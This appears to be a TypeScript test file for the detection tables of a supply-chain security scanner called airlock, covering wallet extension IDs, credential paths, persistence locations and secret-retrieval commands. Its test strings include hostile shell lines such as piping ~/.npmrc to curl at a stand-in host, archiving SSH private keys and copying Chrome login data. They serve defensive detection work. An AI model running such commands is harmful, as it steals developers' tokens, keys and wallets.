import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import {
  credentialPathPattern,
  credentialStores,
  interpreterPattern,
  KnowledgeError,
  loadKnowledge,
  notableStringPattern,
  secretCommandPattern,
  shellCredentialPattern,
  shellTools,
  templateFiles,
  toolConfigs,
  walletExtensions,
  walletIdPattern,
} from './index.ts';
import { gitGlobalRunner, persistencePlace, syncedFolder, unusualProgramPlace } from './persistence.ts';

it('ships one list of wallet extensions, each id once, with the store page it comes from', () => {
  const list = walletExtensions();
  assert.equal(list.length, 14);
  assert.equal(new Set(list.map(e => e.id)).size, list.length);
  const doc = JSON.parse(readFileSync(new URL('../../data/knowledge/wallet-extensions.json', import.meta.url), 'utf8')) as {
    sources: string[];
    extensions: { id: string; source: string }[];
  };
  assert.ok(doc.sources.length > 0);
  for (const e of doc.extensions) assert.ok(e.source.startsWith('https://') && e.source.endsWith(`/${e.id}`), e.id);
  assert.deepEqual(
    list.filter(e => e.name === 'MetaMask').map(e => [e.id, e.store]),
    [
      ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'chrome'],
      ['ejbalbakoplchlghecdalmeeeajnimhm', 'edge'],
    ],
  );
});

it('matches each id as a whole word only', () => {
  const re = new RegExp(walletIdPattern());
  for (const e of walletExtensions()) assert.ok(re.test(`Local Extension Settings/${e.id}/000003.log`), e.id);
  assert.equal(re.test('xnkbihfbeogaeaoehlefnkodbefgpgknn'), false);
  assert.equal(re.test('abcdefghijklmnopabcdefghijklmnop'), false);
});

it('gives every credential store its sources, and each example matches its store and holds one of its atoms', () => {
  const stores = credentialStores();
  assert.ok(stores.length >= 15);
  for (const s of stores) {
    for (const ex of s.examples) {
      assert.ok(s.test.test(ex), `${s.label}: ${ex}`);
      assert.ok(
        s.atoms.some(a => ex.includes(a)),
        `${s.label}: ${ex} holds none of ${s.atoms.join(', ')}`,
      );
      assert.ok(credentialPathPattern().test(ex), ex);
    }
  }
  // A path separator is either slash, repeated or not.
  assert.ok(credentialPathPattern().test(String.raw`C:\\Users\\u\\.aws\\credentials`));
  assert.equal(credentialPathPattern().test('aws/credentials-helper.ts'), false);
});

it('in shell scripts, counts a store under the home folder only after ~/ or $HOME/', () => {
  const re = shellCredentialPattern();
  assert.ok(re.test('cat ~/.npmrc | curl -d @- https://x.invalid'));
  assert.ok(re.test('tar czf /tmp/k.tgz "$HOME/.ssh/id_ed25519"'));
  assert.ok(re.test('cp "${HOME}/.config/solana/id.json" /tmp'));
  assert.ok(re.test('cp "$LOCALAPPDATA/Google/Chrome/User Data/Default/Login Data" .'));
  // A build writing its own `.npmrc`, or the project's `.ssh` fixture, reads no user secret.
  assert.equal(re.test('echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc'), false);
  assert.equal(re.test('chmod 600 test/fixtures/.ssh/id_rsa'), false);
});

it('places: each persistence and synced entry matches its examples, with any path separator', () => {
  assert.equal(persistencePlace('~/.bashrc')?.label, 'a shell start-up file');
  assert.equal(
    persistencePlace(String.raw`C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.vbs`)?.label,
    'the Windows Startup folder',
  );
  assert.equal(persistencePlace('~/.gitconfig')?.effect, 'so a program runs with your git commands in every repository');
  assert.equal(persistencePlace('src/startup.ts'), undefined);
  assert.equal(syncedFolder('~/Dropbox/notes.txt'), 'Dropbox');
  assert.equal(syncedFolder('~/DropboxTools/x'), undefined);
  assert.ok(unusualProgramPlace('/tmp/x/eslint'));
  assert.equal(unusualProgramPlace('./node_modules/.bin/eslint'), false);
  assert.equal(gitGlobalRunner('git config --global core.hooksPath ~/.hooks'), 'core.hooksPath');
  assert.equal(gitGlobalRunner('git config --global alias.co checkout'), undefined);
  assert.equal(gitGlobalRunner("git config --global alias.x '!sh -c x'"), 'alias.x');
});

it('code tables: interpreters from every interpreter table, secret commands, template files and kept strings', () => {
  const interpreter = interpreterPattern();
  const t = shellTools();
  for (const p of [...t.shells, ...t.nodeLike, ...t.pythons, ...t.powershells, ...t.inlineFlags.keys(), ...t.scriptHosts, ...t.wrappers])
    assert.ok(interpreter.test(`/usr/bin/${p}`), p);
  for (const p of ['python3.12', 'C:\\Windows\\System32\\cmd.exe', 'node.exe', 'PowerShell.exe']) assert.ok(interpreter.test(p), p);
  for (const p of ['git', 'npm', 'nodes', 'shx']) assert.equal(interpreter.test(p), false, p);
  assert.ok(secretCommandPattern().test('gh auth token'));
  assert.equal(secretCommandPattern().test('gh auth login'), false);
  assert.ok(templateFiles().javascript.test('views/page.ejs'));
  assert.equal(templateFiles().javascript.test('payload.txt'), false);
  assert.ok(templateFiles().python.test('requirements.txt'));
  const kept = notableStringPattern();
  for (const s of ['https://example.com/x', '198.51.100.7:1224', 'LaunchAgents', 'node-options', 'Login Data']) assert.ok(kept.test(s), s);
  assert.equal(kept.test('hello world'), false);
  const next = toolConfigs().find(c => c.tool === 'Next.js');
  assert.ok(next?.file.test('next.config.mjs') && !next.file.test('next.config.json'));
  assert.deepEqual(next?.programs, ['next']);
});

describe('a malformed knowledge file', () => {
  const copy = (edit: (file: string, text: string) => string): URL => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-knowledge-'));
    const from = new URL('../../data/knowledge/', import.meta.url);
    for (const f of readdirSync(from)) writeFileSync(join(dir, f), edit(f, readFileSync(new URL(f, from), 'utf8')));
    return pathToFileURL(`${dir}/`);
  };

  it('is a KnowledgeError naming the file and what is wrong', () => {
    const cases: [string, (f: string, t: string) => string, RegExp][] = [
      ['not JSON', (f, t) => (f === 'credential-stores.json' ? t.slice(0, 100) : t), /credential-stores\.json: is not valid JSON/],
      [
        'no sources',
        (f, t) => (f === 'credential-stores.json' ? t.replace('"sources"', '"source_list"') : t),
        /credential-stores\.json: expected a non-empty "sources" list/,
      ],
      [
        'a bad regular expression',
        (f, t) => (f === 'credential-stores.json' ? t.replace('"match": ["Login Data"]', '"match": ["Login (Data"]') : t),
        /credential-stores\.json: stores\[0\]: Invalid regular expression/,
      ],
      [
        'a network API from no listed module',
        (f, t) => (f === 'network-apis.json' ? t.replace('"needle.get"', '"needless.get"') : t),
        /network-apis\.json: "needless\.get" is neither a global nor a member of a listed module/,
      ],
      [
        'a common word that is not an atom',
        (f, t) => (f === 'credential-stores.json' ? t.replace('"commonWords": ["Cookies"]', '"commonWords": ["Cookie"]') : t),
        /credential-stores\.json: stores\[\d+\]: common word "Cookie" is not one of its atoms/,
      ],
      [
        'an unknown table',
        (f, t) => (f === 'js-sinks.json' ? t.replace('"fingerprint": {', '"fingerprints": {') : t),
        /js-sinks\.json: unknown table "fingerprints"/,
      ],
      [
        'a name listed twice',
        (f, t) => (f === 'shell-tools.json' ? t.replace('"names": ["sh", "bash"', '"names": ["sh", "sh"') : t),
        /shell-tools\.json: "shells": "sh" is listed twice/,
      ],
      [
        'a malformed name',
        (f, t) => (f === 'js-sinks.json' ? t.replace('"exec", "execSync"', '"exec", "exec Sync"') : t),
        /js-sinks\.json: "processShell": "exec Sync" is not a valid name here/,
      ],
      [
        'an installer prefix that is not https',
        (f, t) => (f === 'shell-tools.json' ? t.replace('"https://sh.rustup.rs"', '"http://sh.rustup.rs"') : t),
        /shell-tools\.json: officialInstallers\[0\]: "http:\/\/sh\.rustup\.rs" is not an https URL prefix/,
      ],
      [
        'a place example that does not match',
        (f, t) => (f === 'places.json' ? t.replace('"examples": ["~/.ssh/authorized_keys"]', '"examples": ["~/.ssh/known_hosts"]') : t),
        /places\.json: persistence\[\d+\]: example "~\/\.ssh\/known_hosts" does not match/,
      ],
      [
        'a place example that holds none of its atoms',
        (f, t) => (f === 'places.json' ? t.replace('"atoms": ["authorized_keys"]', '"atoms": ["authorized-keys"]') : t),
        /places\.json: persistence\[\d+\]: example "~\/\.ssh\/authorized_keys" holds none of its atoms/,
      ],
      [
        'a tool config with an unknown trigger',
        (f, t) => (f === 'tool-configs.json' ? t.replace('"triggers": ["lint"]', '"triggers": ["linting"]') : t),
        /tool-configs\.json: tools\[\d+\]: "linting" is not a trigger/,
      ],
      [
        'a secret command example that does not match',
        (f, t) => (f === 'secret-commands.json' ? t.replace('["gh auth token"]', '["gh auth login"]') : t),
        /secret-commands\.json: commands\[0\]: example "gh auth login" does not match/,
      ],
      [
        'a bad extension id',
        (f, t) => (f === 'wallet-extensions.json' ? t.replace('nkbihfbeogaeaoehlefnkodbefgpgknn', 'not-an-id') : t),
        /wallet-extensions\.json: extensions\[0\]: "not-an-id" is not a 32-letter extension id/,
      ],
    ];
    for (const [what, edit, message] of cases) {
      assert.throws(
        () => loadKnowledge(copy(edit)),
        (err: unknown) => err instanceof KnowledgeError && message.test(err.message) && /reinstall airlock/.test(err.message),
        what,
      );
    }
  });

  it('loads the shipped files from any folder', () => {
    assert.doesNotThrow(() => loadKnowledge(copy((_f, t) => t)));
  });
});
